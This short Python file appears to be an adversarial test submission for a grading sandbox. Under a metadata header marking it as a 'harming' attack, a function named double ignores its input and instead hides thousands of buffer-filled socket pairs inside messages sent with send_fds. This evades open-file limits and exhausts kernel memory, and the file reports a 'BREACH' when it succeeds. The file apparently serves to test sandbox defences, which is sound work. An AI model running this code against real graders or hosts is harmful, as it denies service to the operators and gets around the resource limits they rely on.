# /// attack
# kind = "harming"
# exercise = "ch1/double"
# verdicts = ["error", "memory", "wrong"]
# reason = "Hides full sockets inside messages to other sockets, beyond the limit on open files; those in flight count."
# ///
import socket


def double(value):
    box, _ = pair = socket.socketpair()
    hidden = 0
    try:
        while hidden < 3000:
            inner = socket.socketpair()
            for end in inner:
                end.setblocking(False)
                try:
                    while True:
                        end.send(bytes(1 << 15))
                except BlockingIOError:
                    pass
            box.setblocking(False)
            socket.send_fds(box, [b"x"], [end.fileno() for end in inner])
            hidden += 1
            for end in inner:
                end.close()
            if hidden % 20 == 0:
                outer = socket.socketpair()
                socket.send_fds(outer[0], [b"x"], [end.fileno() for end in pair])
                box, _ = pair = outer
    except OSError as error:
        print(error, hidden)
    if hidden > 600:
        print("BREACH: hid", hidden, "pairs")
    return hidden
